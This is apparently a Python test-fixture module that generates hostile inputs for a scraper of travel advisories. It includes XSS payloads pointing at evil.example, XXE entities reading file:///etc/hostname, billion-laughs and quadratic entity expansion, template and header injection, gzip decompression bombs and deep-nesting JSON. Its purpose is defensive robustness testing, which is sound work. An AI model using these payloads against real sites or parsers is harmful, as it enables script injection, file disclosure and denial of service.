"""Inputs that want to do harm, made when asked for: nothing of this lies on disk.

Each function yields (name, body). `pages`, `feeds` and `documents` are small enough for every
test; `heavy` holds what costs time or memory on purpose, and `bombs` what arrives compressed.
"""

from __future__ import annotations

import gzip
import io
import json
import zlib
from collections.abc import Callable, Iterator

Case = tuple[str, bytes]

_TEXT = "Do not travel to Mali due to crime and terrorism."
_HEAD = "<!DOCTYPE html><html><head><meta charset='utf-8'><title>Mali</title></head><body><main>"
_TAIL = "</main></body></html>"
_ADVISORY = (
    '<div class="cmp-traveladvisory"><div class="cmp-traveladvisory__header level-4">'
    '<h2 class="travel-advisory">Travel advisory - Mali</h2>'
    '<h3 class="travel-level">Level 4 - Do not travel</h3>'
    '<span class="date-issued">Date issued: June 8, 2026 -</span></div>'
    '<div class="cmp-traveladvisory__body level-4">'
    '<div class="cmp-traveladvisory__body-container-advisory">'
    '<h3 class="section-heading">Advisory summary</h3>'
    '<div class="summary-text usa-prose">{}</div></div></div></div>'
)


def page(inner: str = f"<p>{_TEXT}</p>") -> str:
    """A page in the publisher's shape with this markup in the place of its summary."""
    return _HEAD + "<h1>Mali</h1>" + _ADVISORY.replace("{}", inner) + _TAIL


def _page(name: str, inner: str) -> Case:
    return name, page(inner).encode()


# --------------------------------------------------------------------------------------
# Pages
# --------------------------------------------------------------------------------------
def pages() -> Iterator[Case]:
    """Broken, odd and deceitful pages, up to a few hundred kilobytes each."""
    yield "empty", b""
    yield "one byte", b"<"
    yield "only blanks", b" \t\r\n" * 500
    yield "only a comment", b"<!-- nothing to see -->"
    yield "no markup at all", _TEXT.encode()
    yield "not html but a picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
    yield "not html but a program", b"\x7fELF" + bytes(2048)
    yield "not html but a pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"
    yield from _broken_markup()
    yield from _charsets()
    yield from _deceit()


def _broken_markup() -> Iterator[Case]:
    yield _page("unclosed everything", "<p><b><i><ul><li>One<li>Two<table><tr><td>Three")
    yield _page("crossed tags", f"<b><p>{_TEXT}</b></p><i><h4>Crime</i></h4>")
    yield _page("block inside inline", f"<span><p>{_TEXT}</p></span>")
    yield _page("tables within tables", "<table><tr><td>" * 60 + _TEXT)
    yield _page("unclosed comment", f"<p>{_TEXT}</p><!-- and then")
    yield _page("unclosed script", f"<p>{_TEXT}</p><script>var a = '<p>")
    yield _page("unclosed attribute", f'<p>{_TEXT}</p><a href="https://example.org/')
    yield _page("unclosed cdata", f"<p>{_TEXT}</p><![CDATA[ and so on")
    yield "closing tags only", b"</div></p></main></body></html>" * 200
    yield "body after the end", (page() + "<p>And one more thing.</p>").encode()
    yield "two documents", (page() + page()).encode()
    yield "a frameset", b"<html><frameset><frame src='a.html'></frameset></html>"
    yield _page("a huge attribute", f"<p title='{'x' * 200_000}'>{_TEXT}</p>")
    yield _page(
        "thousands of attributes",
        "<p " + " ".join(f"a{n}='{n}'" for n in range(5000)) + f">{_TEXT}</p>",
    )
    yield _page("a tag name without end", f"<{'x' * 100_000}>{_TEXT}")
    yield _page("odd entities", "<p>&#0; &#xD800; &#x110000; &nosuch; &amp;amp; &#9999999999;</p>")
    yield _page("a word without end", f"<p>{'a' * 200_000}</p>")
    yield _page("a line without end", f"<p>{(_TEXT + ' ') * 4000}</p>")
    yield _page("digits without end", f"<p>Call +{'2' * 50_000} now.</p>")
    yield _page(
        "a date that never was",
        "<p>On February 31, 2026 and 99/99/9999, at 25:61, soldiers left.</p>",
    )


def _charsets() -> Iterator[Case]:
    words = page("<p>Ségou, Ménaka and “Côte d’Ivoire” — 100 €</p>")
    yield "null bytes", page(f"<p>{_TEXT}</p>").encode().replace(b"Mali", b"Ma\x00li")
    yield "null bytes only", bytes(5000)
    yield _page(
        "control characters",
        "<p>" + "".join(map(chr, range(1, 32))) + "\x7f\x85 after</p>",
    )
    yield "invalid utf-8", words.encode() + b"\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc\xff"
    yield "utf-8 cut in a letter", page("<p>Ségou</p>").encode().partition(b"\xa9")[0]
    yield "overlong utf-8", page().encode().replace(b"<p>", b"<p>\xc0\xaf\xe0\x80\xaf")
    yield "a lone surrogate", page().encode().replace(b"<p>", b"<p>\xed\xa0\x80")
    yield "utf-8 with a mark", b"\xef\xbb\xbf" + words.encode()
    yield "utf-16 with a mark", words.encode("utf-16")
    yield "utf-16 without a mark", words.encode("utf-16-le")
    yield "utf-32", words.encode("utf-32")
    yield "utf-16 that says utf-8", words.encode("utf-16-be")
    yield "windows-1252 that says utf-8", words.encode("cp1252")
    yield "utf-8 that says latin-1", words.replace("utf-8", "iso-8859-1").encode()
    yield "a charset that nobody knows", words.replace("utf-8", "x-no-such-charset").encode()
    yield "a charset that is code", words.replace("utf-8", "zlib").encode()
    yield "utf-7", words.replace("utf-8", "utf-7").encode("utf-7")
    yield _page("mojibake", "<p>SÃ©gou and MÃ©naka donâ€™t</p>")


def _deceit() -> Iterator[Case]:
    yield _page(
        "right-to-left overrides",
        "<p>Level \u202e4\u202c is \u2066not\u2069 in \u200ffor\u200ece \u061c\u2060\ufeff.</p>",
    )
    yield _page("zero-width letters", f"<p>{chr(0x200B).join(_TEXT)}</p>")
    yield _page("look-alike letters", "<p>D\u043e n\u043et tr\u0430vel t\u043e M\u0430li.</p>")
    yield _page(
        "letters under many marks", "<p>" + ("Z" + "\u0301\u0317\u0489" * 200) * 20 + "</p>"
    )
    yield _page("a script in a heading", "<h4><script>alert(1)</script>Crime</h4><p>x</p>")
    yield _page("a script in a link", "<p><a href='java\tscript:alert(1)'>Read more</a></p>")
    yield _page("a link with a line break", "<p><a href='https://a.example/\r\nX: y'>a</a></p>")
    yield _page("a data link", "<p><a href='data:text/html;base64,PHA+'>a</a></p>")
    yield _page(
        "mail headers in a heading",
        "<h4>Crime\r\nBcc: everyone@example.org\r\n\r\nHello</h4><p>x</p>",
    )
    yield _page("a template in the text", "<p>{{ 7*7 }} {% raw %} ${x} %(y)s {0}</p>")
    yield _page("a formula in the text", '<p>=HYPERLINK("https://a.example","x")</p>')
    yield _page(
        "hidden text", f"<p style='display:none'>Level 1</p><p hidden>Go!</p><p>{_TEXT}</p>"
    )
    yield _page(
        "a hundred levels", "".join(f"<h3>Level {n % 5} - Whatever</h3>" for n in range(100))
    )
    yield _page("a base address elsewhere", "<base href='https://evil.example/'><a href='/x'>x</a>")


# --------------------------------------------------------------------------------------
# Feeds
# --------------------------------------------------------------------------------------
_RSS = (
    '<?xml version="1.0" encoding="UTF-8"?>\n{doctype}<rss version="2.0"><channel>'
    "<title>t</title>{}</channel></rss>"
)
_MLI = (
    "https://travel.state.gov/content/tsg_aem/us/en/home/international-travel/travel-advisories/"
    "destination.mli.html"
)


def _item(title: str = "Mali - Level 4: Do Not Travel", body: str = _TEXT, link: str = _MLI) -> str:
    return (
        f"<item><title>{title}</title><link>{link}</link><pubDate>Mon, 08 Jun 2026</pubDate>"
        f"<description><![CDATA[{body}]]></description>"
        '<category domain="Threat-Level">Level 4: Do Not Travel</category></item>'
    )


def _feed(items: str, doctype: str = "") -> bytes:
    return _RSS.replace("{doctype}", doctype).replace("{}", items).encode()


def feeds() -> Iterator[Case]:
    """Broken and hostile feeds."""
    yield "feed: empty", b""
    yield "feed: no items", _feed("")
    yield "feed: not xml", b"{}"
    yield "feed: a page instead", page().encode()
    yield "feed: broken off", _feed(_item() * 3)[:-300]
    yield "feed: unclosed cdata", _feed(_item().replace("]]>", ""))
    yield "feed: cdata in cdata", _feed(_item(body="<![CDATA[ <p>x</p> ]]]]><![CDATA[> y"))
    yield "feed: billion laughs", _feed(_item(body="").replace("<![CDATA[]]>", "&lol9;"), _laughs())
    yield (
        "feed: quadratic blow-up",
        _feed(
            _item(body="").replace("<![CDATA[]]>", "&a;" * 2000),
            f'<!DOCTYPE rss [<!ENTITY a "{"a" * 2000}">]>\n',
        ),
    )
    yield (
        "feed: external entity",
        _feed(
            _item(body="").replace("<![CDATA[]]>", "&xxe;"),
            '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n',
        ),
    )
    yield (
        "feed: external document type",
        _feed(_item(), '<!DOCTYPE rss SYSTEM "http://127.0.0.1:9/evil.dtd">\n'),
    )
    yield (
        "feed: parameter entity",
        _feed(_item(), '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://127.0.0.1:9/x.dtd"> %x;]>\n'),
    )
    yield (
        "feed: xinclude",
        _feed(
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"/>'
            + _item()
        ),
    )
    yield (
        "feed: two levels in one item",
        _feed(_item("Mali - Level 1: Exercise Normal Precautions")),
    )
    yield "feed: no level", _feed(_item(title="Mali").replace("Level 4: Do Not Travel", ""))
    yield "feed: level nine", _feed(_item("Mali - Level 9: Run").replace("Level 4", "Level 9"))
    yield "feed: the same item twice", _feed(_item() + _item(body="Something else."))
    yield "feed: dates that never were", _feed(_item().replace("Mon, 08 Jun", "Fri, 31 Feb"))
    yield "feed: invalid utf-8", _feed(_item()).replace(b"Mali", b"Mal\xff\xfe")
    yield "feed: null bytes", _feed(_item()).replace(b"Mali", b"Ma\x00li")
    yield "feed: wrong encoding declared", _feed(_item()).replace(b"UTF-8", b"UTF-16")
    yield "feed: utf-16", _RSS.replace("{doctype}", "").replace("{}", _item()).encode("utf-16")
    yield "feed: deep nesting", _feed("<a>" * 20_000 + _item())
    yield "feed: broken page in cdata", _feed(_item(body="<div><p><b>" * 500))


def _laughs() -> str:
    rows = ['<!ENTITY lol0 "lol">']
    rows += [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    return "<!DOCTYPE rss [" + "\n".join(rows) + "]>\n"


# --------------------------------------------------------------------------------------
# Words
# --------------------------------------------------------------------------------------
EVIL = "https://evil.example"
_RUN = "window.ran=(window.ran||0)+1"


def words() -> Iterator[tuple[str, str]]:
    """Words that would do something if a page of ours ever took them for more than words: run `window.ran`, ask EVIL
    for something, or plant an element whose id, or whose name, is "planted"."""
    yield "script", f"<script id=planted>{_RUN}</script>"
    yield "script after a title", f"</title></head><body><script id=planted>{_RUN}</script>"
    yield "script after a text", f"</textarea></pre></q></p></main><script id=planted src={EVIL}/x.js></script>"
    yield "script in a script", f"<scr<script>ipt id=planted>{_RUN}</scr</script>ipt>"
    yield "script after a comment", f"--><!--><script id=planted>{_RUN}</script><!--"
    yield "script as a section", f"]]><script id=planted>{_RUN}</script>"
    yield "a picture", f"<img id=planted src={EVIL}/p.png onerror={_RUN}>"
    yield "a picture out of an attribute", f"\"'><img id=planted src=x onerror={_RUN}>"
    yield "an attribute", f'" onfocus="{_RUN}" autofocus id="planted" x="'
    yield "an attribute in single quotes", f"' onmouseover='{_RUN}' id='planted' x='"
    yield "a drawing", f"<svg id=planted onload={_RUN}><use href='{EVIL}/x.svg#a'/></svg>"
    yield "formulas", f"<math><mtext><table><mglyph><style><img id=planted src=x onerror={_RUN}></style></table>"
    yield "a frame", f'<iframe id=planted srcdoc="<script>parent.{_RUN}</script>"></iframe>'
    yield "an object", f"<object id=planted data={EVIL}/x.swf></object><embed id=planted src={EVIL}/x.swf>"
    yield "a style", f"<style id=planted>@import url({EVIL}/x.css);*{{display:none!important}}</style>"
    yield "a style sheet", f"<link id=planted rel=stylesheet href={EVIL}/x.css>"
    yield "a way elsewhere", f'<meta id=planted http-equiv=refresh content="0;url={EVIL}/">'
    yield "another base", f"<base id=planted href={EVIL}/>"
    yield "a form", f"<form id=planted action={EVIL}/><input name=planted autofocus><button>Go</button></form>"
    yield "a link that runs", f"<a id=planted href='java\tscript:{_RUN}'>Read more</a>"
    yield "a template", "{{ 7*7 }} {% raw %} ${7*7} #{7*7} %(y)s {0} <%= 7*7 %>"
    yield "an element of the page", "<p id=live data-news=planted></p><form id=planted><input name=attributes></form>"
    yield "a word that turns", "Level \u202e4\u202c is \u2066not\u2069 \u200fin\u200e force\u061c\u2060\ufeff."
    yield "letters that are none", "Ma\x0bli \x1b[31mred\x1b[0m \ufffe \U0010ffff \ud7ff"


# --------------------------------------------------------------------------------------
# JSON
# --------------------------------------------------------------------------------------
def documents() -> Iterator[Case]:
    """Broken JSON and JSON of the wrong shape, for every kind that is read as JSON."""
    yield "json: empty", b""
    yield "json: broken", b'{"details": {'
    yield "json: deep lists", b"[" * 100_000 + b"]" * 100_000
    yield "json: deep objects", b'{"a":' * 50_000 + b"1" + b"}" * 50_000
    yield "json: not a number", b'{"data": NaN, "level": Infinity}'
    yield "json: digits without end", b'{"data": ' + b"9" * 20_000 + b"}"
    yield "json: the same key twice", b'{"data": {}, "data": []}'
    yield "json: lone surrogate", b'{"title": "\\ud800 Mali"}'
    yield "json: null bytes", b'{"title": "Ma\\u0000li"}'
    yield "json: utf-16", json.dumps({"title": "Mali"}).encode("utf-16")
    yield "json: a byte order mark", b"\xef\xbb\xbf[]"
    yield "json: a page instead", page().encode()
    values: tuple[object, ...] = (
        None,
        True,
        0,
        -1.5,
        "",
        "Mali",
        [],
        {},
        [None],
        [[]],
        [1, "2", {}],
    )
    for value in values:
        yield f"json: {json.dumps(value)}", json.dumps(value).encode()
    wrongs: tuple[object, ...] = (None, 4, "text", [], {}, [1], {"a": None})
    for wrong in wrongs:
        yield f"json: api item of {json.dumps(wrong)}", json.dumps([
            {key: wrong for key in ("Title", "Link", "Category", "Summary", "Published", "Updated")}
        ]).encode()  # fmt: skip
        yield f"json: gov.uk with {json.dumps(wrong)}", json.dumps({
            "document_type": "travel_advice", "title": wrong, "withdrawn_notice": wrong,
            "details": {"country": wrong, "parts": wrong, "alert_status": wrong},
        }).encode()  # fmt: skip
        yield f"json: gov.uk parts of {json.dumps(wrong)}", json.dumps({
            "document_type": "travel_advice", "title": "Mali travel advice",
            "details": {"country": {"name": "Mali"}, "alert_status": [wrong],
                        "parts": [{"slug": wrong, "title": wrong, "body": wrong}]},
        }).encode()  # fmt: skip
        yield f"json: canada with {json.dumps(wrong)}", json.dumps({
            "metadata": wrong,
            "data": {"advisory-state": wrong, "eng": {"name": wrong, "security": wrong}},
        }).encode()  # fmt: skip
        yield f"json: canada of {json.dumps(wrong)}", json.dumps({"data": wrong}).encode()


# --------------------------------------------------------------------------------------
# Heavy and compressed
# --------------------------------------------------------------------------------------
def heavy() -> Iterator[Case]:
    """What costs time or memory: run it with a limit in mind."""
    yield _page("heavy: deeply nested tags", "<div>" * 100_000 + _TEXT)
    yield _page("heavy: deeply nested inline tags", "<b>" * 100_000 + _TEXT)
    yield _page("heavy: deeply nested lists", "<ul><li>" * 50_000 + _TEXT)
    yield _page(
        "heavy: a hundred thousand paragraphs",
        "".join(f"<p>Sentence {n} about the roads.</p>" for n in range(100_000)),
    )
    yield _page("heavy: a hundred thousand headings", "<h4>Crime</h4>" * 100_000)
    yield _page(
        "heavy: a hundred thousand links",
        "<p>" + "<a href='https://a.example/x'>x</a> " * 100_000 + "</p>",
    )
    yield "heavy: fifty megabytes", huge(50 * 2**20)
    yield (
        "heavy: feed of a hundred thousand items",
        _feed(
            "".join(
                _item(
                    f"Country {n} - Level 1: Exercise Normal Precautions",
                    "x",
                    f"https://a.example/{n}",
                )
                for n in range(100_000)
            )
            + _item()
        ),
    )


def huge(size: int) -> bytes:
    """A well-formed page of about this many bytes."""
    line = f"<p>{_TEXT}</p>\n"
    return page(line * (size // len(line))).encode()


def bombs(size: int = 256 * 2**20) -> Iterator[Case]:
    """Small bodies that grow to `size` when a client unpacks them.

    The name, up to a colon, is the value of Content-Encoding.
    """
    packed = _squeezed(size, gzip_wrapped=True)
    yield "gzip", packed
    yield "deflate", _squeezed(size, gzip_wrapped=False)
    yield "gzip, gzip", gzip.compress(packed, mtime=0)
    yield "gzip: cut off", packed[:-12]
    yield "gzip: broken", b"\x1f\x8b\x08\x00broken"


def _squeezed(size: int, *, gzip_wrapped: bool) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS + (16 if gzip_wrapped else 0))
    out, chunk = io.BytesIO(), b"<p>" + b" " * (2**20 - 3)
    for _ in range(size // len(chunk)):
        out.write(packer.compress(chunk))
    out.write(packer.flush())
    return out.getvalue()


SMALL: tuple[Callable[[], Iterator[Case]], ...] = (pages, feeds, documents)


def small() -> Iterator[Case]:
    """Everything that every adapter must survive in every test run."""
    for group in SMALL:
        yield from group()
